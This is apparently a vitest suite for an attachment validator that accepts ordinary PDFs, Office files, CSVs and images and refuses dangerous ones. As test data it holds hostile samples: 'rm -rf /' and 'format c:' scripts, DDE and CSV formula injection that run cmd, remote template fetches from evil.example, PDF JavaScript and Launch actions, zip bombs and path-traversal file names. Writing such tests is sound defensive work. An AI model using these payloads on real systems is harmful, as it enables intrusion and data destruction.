/** What may be attached and what may not, by what its bytes are: each kind, each odd one, and what is told of it. */
import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import { checkFile, MOST_FILE } from './check-file.ts'
import { zip } from './sources/test-files.ts'
import { jpeg, latin, MAIN, office, openDocument, packedObjects, pdf, png } from './test-attachable.ts'
import { UnreadableFile } from './unreadable-file.ts'

const kindOf = async (name: string, bytes: Uint8Array | Promise<Uint8Array>) =>
  (await checkFile(name, await bytes)).kind
const told = async (name: string, bytes: Uint8Array | Promise<Uint8Array>): Promise<string> => {
  const found: unknown = await checkFile(name, await bytes).catch((error: unknown) => error)
  if (!(found instanceof UnreadableFile)) throw found instanceof Error ? found : new Error(`${name} was taken`)
  return found.message
}
const utf16 = (text: string) => new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]))

test.each([
  ['minutes.pdf', pdf(), 'pdf'],
  ['PACKED.PDF', pdf(packedObjects('<</Type/Font>>')), 'pdf'],
  ['words.pdf', pdf(`4 0 obj\n<</Title(Looking downstream\n)>>\nendobj\n${packedObjects('<</Type/Font>>')}`), 'pdf'],
  ['minutes.docx', office('docx'), 'docx'],
  ['register.xlsx', office('xlsx'), 'xlsx'],
  ['slides.pptx', office('pptx'), 'pptx'],
  ['with a sheet.docx', office('xlsx').then(sheet => office('docx', { 'word/embeddings/sheet1.xlsx': sheet })), 'docx'],
  ['with a link.docx', office('docx', { 'word/_rels/document.xml.rels': '<Relationships><Relationship Id="a" Type="http://x/hyperlink" Target="https://example.org" TargetMode="External"/></Relationships>' }), 'docx'],
  ['with fields.docx', office('docx', { 'word/document.xml': '<w:p><w:instrText> PAGEREF _Toc1 </w:instrText><w:fldSimple w:instr=" NUMPAGES "/></w:p>' }), 'docx'],
  ['with a chart.odt', openDocument('text', { 'content.xml': '<c><draw:object xlink:href="./Object 1"/></c>' }), 'odt'],
  ['minutes.odt', openDocument('text'), 'odt'],
  ['register.ods', openDocument('spreadsheet'), 'ods'],
  ['slides.odp', openDocument('presentation'), 'odp'],
  ['visits.csv', latin('Ward,Visits\r\nEast,-12\r\n"West, rural",3'), 'csv'],
  ['list.csv', latin('Ward,Said\r\nEast,- visits | reviews\r\nWest,"-3|4"'), 'csv'],
  ['visits.tsv', utf16('Ward\tVisits\r\nÉast\t12'), 'csv'],
  ['notes.txt', new Uint8Array(Buffer.from('Visits are seen alone — 90%. x < y, and <3')), 'text'],
  ['chart.png', png(), 'png'],
  ['photo.jpg', jpeg(), 'jpeg'],
  ['photo.jpeg', jpeg(), 'jpeg'],
  ['quarter.2.final.pdf', pdf(), 'pdf'],
] as [string, Uint8Array | Promise<Uint8Array>, string][])('%s is taken', async (name, bytes, kind) => {
  expect(await kindOf(name, bytes)).toBe(kind)
}) // prettier-ignore

const OLE = (name: string) => new Uint8Array(Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), Buffer.from(name, 'utf16le')])) // prettier-ignore
const HTML = latin('<!DOCTYPE html><script>alert(1)</script>')
const SVG = latin('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
const typed = (kind: string, type: string) => ({ '[Content_Types].xml': `<Types><Override PartName="/${MAIN[kind]![0]}" ContentType="${MAIN[kind]![1]}"/><Override PartName="/a.xml" ContentType="${type}"/></Types>` }) // prettier-ignore
const fetching = (type: string) => ({ 'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="a" Type="http://x/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>` }) // prettier-ignore

test.each([
  ['page.pdf', HTML, 'page.pdf: expected a PDF, as its name says; found a web page: save it as PDF'],
  ['page.txt', HTML, 'found a web page'],
  ['late.txt', latin(`Notes\n\n<script src=x>`), 'found a web page'],
  ['drawing.png', SVG, 'expected a PNG picture, as its name says; found an SVG drawing'],
  ['drawing.svg', SVG, 'expected PDF, Word (.docx)'],
  ['feed.txt', latin('<?xml version="1.0"?><a/>'), 'found an XML file'],
  ['minutes.docx', pdf(), 'expected a Word document, as its name says; found a PDF: name it .pdf'],
  ['minutes.pdf.exe', pdf(), 'its name says nothing that may be kept; found a PDF: name it .pdf'],
  ['minutes.exe.pdf', pdf(), 'its name holds .exe, as if it were something that runs'],
  ['minutes.html.txt', latin('hello'), 'its name holds .html'],
  ['minutes', pdf(), 'found a PDF: name it .pdf'],
  ['setup.pdf', latin('MZ\x90\0\x03'), 'found a program: it is not taken'],
  ['tool.txt', latin('\x7fELF\x02'), 'found a program'],
  ['run.txt', latin('#!/bin/sh\nrm -rf /'), 'found a script'],
  ['run.txt', latin('@echo off\r\nformat c:'), 'found a script'],
  ['old.doc', OLE('WordDocument'), 'found a Word 97-2003 document: save it as .docx'],
  ['old.docx', OLE('EncryptedPackage'), 'found an Office file with a password: take the password off'],
  ['mail.msg', OLE('__substg1.0_0037001F'), 'found an e-mail: save it as PDF, and give the files that came with it on their own'],
  ['mail.eml', latin('From: a@example.org\r\nTo: b@example.org\r\nSubject: Visits\r\n\r\nHello'), 'found an e-mail'],
  ['notes.txt', latin('{\\rtf1 hello}'), 'found an RTF document'],
  ['old.csv', latin('Ward,Cost\r\nEast,\xa312'), 'found text in an older encoding: save it as UTF-8 (in Excel: CSV UTF-8)'],
  ['odd.txt', new Uint8Array([1, 2, 3, 0, 255]), 'found bytes of no kind that is known here'],
  ['photo.gif', latin('GIF89a'), 'found a GIF picture: save it as PNG or JPEG'],
  ['photo.jpg', latin('\0\0\0\x18ftypheic'), 'found a HEIC picture'],
  ['film.mp4', latin('\0\0\0\x18ftypisom'), 'found a video'],
  ['all.zip', zip({ 'a.txt': 'a' }), 'found a zip archive: unpack it'],
  ['all.docx', zip({ 'a.txt': 'a' }), 'expected a Word document, as its name says; found a zip archive'],
  ['macros.docm', office('docm'), 'found an Office file with macros'],
  ['macros.docx', office('docm'), 'found an Office file with macros: save it without macros'],
  ['macros.docx', office('docx', { 'word/vbaProject.bin': 'x' }), 'it holds macros, so that it was not kept'],
  ['macros.xlsx', office('xlsx', { 'xl/macrosheets/sheet1.xml': '<x/>' }), 'it holds macros'],
  ['controls.docx', office('docx', { 'word/activeX/activeX1.xml': '<x/>' }), 'controls that run (ActiveX)'],
  ['add-in.docx', office('docx', { 'word/webextensions/webextension1.xml': '<x/>' }), 'an add-in from the web'],
  ['template.docx', office('docx', fetching('attachedTemplate')), 'a part that is fetched from elsewhere when it is opened'],
  ['object.docx', office('docx', fetching('oleObject')), 'a part that is fetched from elsewhere'],
  ['inside.docx', office('docx', { 'word/embeddings/oleObject1.bin': OLE('Ole10Native') }), 'it holds an older Office file inside'],
  ['inside.docx', office('docx', { 'word/media/image1.png': latin('MZ\x90\0') }), 'it holds a program inside'],
  ['inside.docx', office('docm').then(inner => office('docx', { 'word/embeddings/a.docx': inner })), 'it holds an Office file with macros'],
  ['inside.docx', zip({ 'a.txt': 'a' }).then(inner => office('docx', { 'word/embeddings/a.bin': inner })), 'it holds a zip archive'],
  ['deep.docx', office('xlsx').then(three => office('docx', { 'word/embeddings/a.xlsx': three })).then(two => office('pptx', { 'ppt/embeddings/a.docx': two })).then(one => office('docx', { 'word/embeddings/a.pptx': one })), 'it holds archives within archives'],
  ['typed.xlsx', office('xlsx', typed('xlsx', 'application/vnd.ms-excel.macrosheet+xml')), 'it holds macros'],
  ['typed.docx', office('docx', typed('docx', 'application/vnd.ms-office.vbaProject')), 'it holds macros'],
  ['field.docx', office('docx', { 'word/document.xml': '<w:p><w:instrText>DD</w:instrText><w:t>x</w:t><w:instrText>&#69;AUTO cmd "/k calc"</w:instrText></w:p>' }), 'a field or link that starts a program'],
  ['field.docx', office('docx', { 'word/header1.xml': '<w:p><w:fldSimple w:instr=" DDE cmd x"/></w:p>' }), 'a field or link that starts a program'],
  ['named.docx', office('docx', { 'word/a.rels': '<w:document><w:instrText>DDE cmd x</w:instrText></w:document>' }), 'a field or link that starts a program'],
  ['link.xlsx', office('xlsx', { 'xl/externalLinks/externalLink1.xml': '<x:externalLink><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>' }), 'a field or link that starts a program'],
  ['link.ods', openDocument('spreadsheet', { 'content.xml': '<c><office:dde-source office:dde-application="cmd"/></c>' }), 'a field or link that starts a program'],
  ['frame.odt', openDocument('text', { 'content.xml': '<c><draw:floating-frame xlink:href="http://evil.example/x.odt"/></c>' }), 'a part that is fetched from elsewhere'],
  ['script.docx', office('docx', { 'word/embeddings/a.pdf': pdf('4 0 obj <</S/JavaScript/JS(x)>> endobj') }), 'it holds a script'],
  ['rich.docx', office('docx', { 'word/afchunk.txt': latin('{\\rtf1 x}') }), 'an RTF document inside'],
  ['other-name.ods', openDocument('spreadsheet', { 'content.xml': '<c><s:event-listener xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/></c>' }), 'it holds macros'],
  ['wide.odt', openDocument('text', { 'content.xml': utf16('<c><script:event-listener/></c>') }), 'it holds macros'],
  ['part.odt', openDocument('text', { 'Object 1/content.xml': '<c><script:event-listener/></c>' }), 'it holds macros'],
  ['part.odt', openDocument('text', { 'Object 1/Basic/Standard/Module1.xml': '<x/>' }), 'it holds macros'],
  ['macros.odt', openDocument('text', { 'Basic/Standard/Module1.xml': '<x/>' }), 'it holds macros'],
  ['events.ods', openDocument('spreadsheet', { 'content.xml': '<c><script:event-listener/></c>' }), 'it holds macros'],
  ['locked.odt', openDocument('text', { 'META-INF/manifest.xml': '<manifest:encryption-data/>' }), 'it has a password'],
  ['bomb.docx', office('docx', { 'word/media/a.emf': new Uint8Array(30 * 1024 * 1024) }), 'it unpacks to far more than it should'],
  ['bomb.docx', office('xlsx', { 'xl/a.xml': new Uint8Array(30 * 1024 * 1024) }).then(inner => office('docx', { 'word/embeddings/a.xlsx': inner })), 'it unpacks to far more'],
  ['script.pdf', pdf('4 0 obj <</S/JavaScript/JS(app.alert\\(1\\))>> endobj'), 'it holds a script, so that it was not kept: print it to PDF anew'],
  ['script.pdf', pdf('4 0 obj <</S/J#61vaScript/JS(x)>> endobj'), 'it holds a script'],
  ['script.pdf', pdf(packedObjects('<</S/JavaScript/JS(x)>>')), 'it holds a script'],
  ['script.pdf', pdf(packedObjects('<</S/#4aavaScript/JS(x)>>')), 'it holds a script'],
  ['script.pdf', pdf(packedObjects('<</S/JavaScript/JS(x)>>', '/F#69lter/Flate#44ecode')), 'it holds a script'],
  ['script.pdf', pdf(packedObjects('<</S/JavaScript/JS(x)>>', '/Filter[/ASCII85Decode/FlateDecode]')), 'packed in a way that cannot be looked into'],
  ['script.pdf', pdf(packedObjects('<<>>', '/Filter/LZWDecode')), 'packed in a way that cannot be looked into'],
  ['twice.pdf', pdf(packedObjects('<</S/JavaScript/JS(x)>>', '/Filter[/FlateDecode/FlateDecode]')), 'packed in a way that cannot be looked into'],
  ['comment.pdf', pdf(`%stream\n${packedObjects('<</S/JavaScript/JS(x)>>')}`), 'packed in a way that cannot be looked into'],
  ['string.pdf', pdf(`4 0 obj\n(stream\n)\nendobj\n${packedObjects('<</S/JavaScript/JS(x)>>')}`), 'packed in a way that cannot be looked into'],
  ['begins.pdf', pdf(packedObjects('<</S/JavaScript/JS(x)>>').replace('stream\n', 'stream%\n')), 'packed in a way that cannot be looked into'],
  ['broken.pdf', pdf('9 0 obj <</N 1/First 4/Filter/FlateDecode>>\nstream\nnot packed\nendstream'), 'packed in a way that cannot be looked into'],
  ['start.pdf', pdf('', '/OpenAction<</S/Launch/F(cmd.exe)>>'), 'a command that starts a program'],
  ['form.pdf', pdf('', '/AcroForm<</XFA 5 0 R>>'), 'a form with a script of its own'],
  ['send.pdf', pdf('4 0 obj <</S/SubmitForm>> endobj'), 'a form that sends what is typed'],
  ['files.pdf', pdf('', '/Names<</EmbeddedFiles 5 0 R>>'), 'it holds other files inside'],
  ['cut.pdf', pdf().subarray(0, 200), 'it is damaged, or holds something after its end'],
  ['more.pdf', latin(`${Buffer.from(pdf()).toString('latin1')}${'x'.repeat(1100)}`), 'holds something after its end'],
  ['page.pdf', latin(Buffer.from(pdf()).toString('latin1').replace('%PDF-1.7', '%PDF-1.7 <html><script>alert(1)</script>')), 'it holds a web page'],
  ['late.pdf', latin(`<html>${Buffer.from(pdf()).toString('latin1')}`), 'found a web page'],
  ['both.pdf', zip({ 'a.txt': 'a' }).then(archive => new Uint8Array(Buffer.concat([pdf(), archive, Buffer.from('%%EOF')]))), 'it holds an archive after its end'],
  ['run.csv', latin("Ward\r\n=cmd|'/c calc'!A1"), 'a cell that starts a program'],
  ['run.csv', latin('Ward,"=MSEXCEL|\'..\\x\'!A"'), 'a cell that starts a program'],
  ['sum.csv', latin("Ward\r\n@SUM(1+9)*cmd|' /C calc'!A0"), 'a cell that starts a program'],
  ['one.csv', latin("Ward\r\n=1+cmd|' /C calc,x'!A0"), 'a cell that starts a program'],
  ['two.csv', latin('Ward\r\n-2+3+cmd|/C!E1'), 'a cell that starts a program'],
  ['huge.png', png([], 2_000_000_000), 'points, so that it was not kept: save it smaller'],
  ['cut.png', png().subarray(0, 40), 'it is damaged'],
  ['cut.jpg', jpeg().subarray(0, 100), 'it is damaged'],
  ['nothing.pdf', new Uint8Array(), 'nothing.pdf: it is empty'],
  ['large.txt', new Uint8Array(MOST_FILE + 1).fill(97), 'it has 20.0 MB, and the most is 20 MB'],
  ['large.pdf', new Uint8Array(21 * 1024 * 1024), 'it has 21.0 MB, and the most is 20 MB'],
] as [string, Uint8Array | Promise<Uint8Array>, string][])('%s is not taken (%#)', async (name, bytes, words) => {
  expect(await told(name, bytes)).toContain(words)
  expect(await told(name, bytes)).toContain(`${name}: `)
}) // prettier-ignore

test('a locked PDF is refused, whichever way it says so', async () => {
  const locked = (entry: string) => latin(Buffer.from(pdf()).toString('latin1').replace('/Size 4', `/Size 4${entry}`))
  for (const entry of ['/Encrypt 7 0 R', '/Encrypt<</V 4>>', '/#45ncrypt 7 0 R'])
    expect(await told('locked.pdf', locked(entry))).toContain('it is locked, so that nobody can look into it')
})

test.each([
  ['spaces.csv', ' '.repeat(19_000_000)],
  ['less.txt', `a${'<'.repeat(19_000_000)}`],
  ['names.pdf', Buffer.from(pdf('/J#61'.repeat(3_000_000))).toString('latin1')],
  ['streams.pdf', Buffer.from(pdf('stream\nendstream '.repeat(1_000_000))).toString('latin1')],
])('%s, made to take long to look at, takes no longer than its length', { timeout: 60_000 }, async (name, text) => {
  await checkFile(name, latin(text)).catch((error: unknown) => expect(error).toBeInstanceOf(UnreadableFile))
})

test('exactly 20 MB is taken', async () => {
  expect(await kindOf('large.txt', new Uint8Array(MOST_FILE).fill(97))).toBe('text')
})

test('a photograph keeps which way up it is, and nothing of where, when and by whom it was taken or what follows it', async () => {
  const { bytes, cleaned } = await checkFile('photo.jpg', jpeg({ after: '<script>alert(1)</script>' }))
  const text = Buffer.from(bytes).toString('latin1')
  expect(cleaned).toBe(true)
  for (const gone of ['GPS', 'Manchester', 'home', 'script']) expect(text).not.toContain(gone)
  expect(text).toMatch(/^\xff\xd8\xff\xe1\0"Exif\0\0MM\0\*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06/)
  expect(text.endsWith('\x3f\xff\xd9')).toBe(true)
  const upright = await checkFile('photo.jpg', jpeg({ turned: 1 }))
  expect(Buffer.from(upright.bytes).toString('latin1')).not.toContain('Exif')
  const again = await checkFile('photo.jpg', bytes)
  expect(createHash('sha256').update(again.bytes).digest('hex')).toBe(createHash('sha256').update(bytes).digest('hex'))
})

test('a PNG keeps its points and colours only', async () => {
  const { bytes, cleaned } = await checkFile('chart.png', png([['tEXt', 'Author\0Jade Smithson'], ['eXIf', 'MM GPS'], ['gAMA', 'gama']])) // prettier-ignore
  expect(cleaned).toBe(true)
  expect(Buffer.from(bytes).equals(Buffer.from(png([['gAMA', 'gama']])))).toBe(true)
  expect((await checkFile('chart.png', png())).cleaned).toBe(false)
})

test.each([
  ['../../etc/passwd.txt', 'passwd.txt'],
  ['C:\\Users\\j\\notes.txt', 'notes.txt'],
  ['minutes\u202etxt.exe.txt', 'minutestxt.exe.txt'],
  ['  .notes.txt. ', 'notes.txt'],
  ['no\u0000tes\r\n.txt', 'notes.txt'],
  ['a<b>:c".txt', 'a_b__c_.txt'],
  ['CON.txt', 'file CON.txt'],
])('%j is kept as %j', async (given, name) => {
  const found = await checkFile(given, latin('hello')).then(one => one.name, (error: UnreadableFile) => error.message.split(': ')[0]) // prettier-ignore
  expect(found).toBe(name)
})
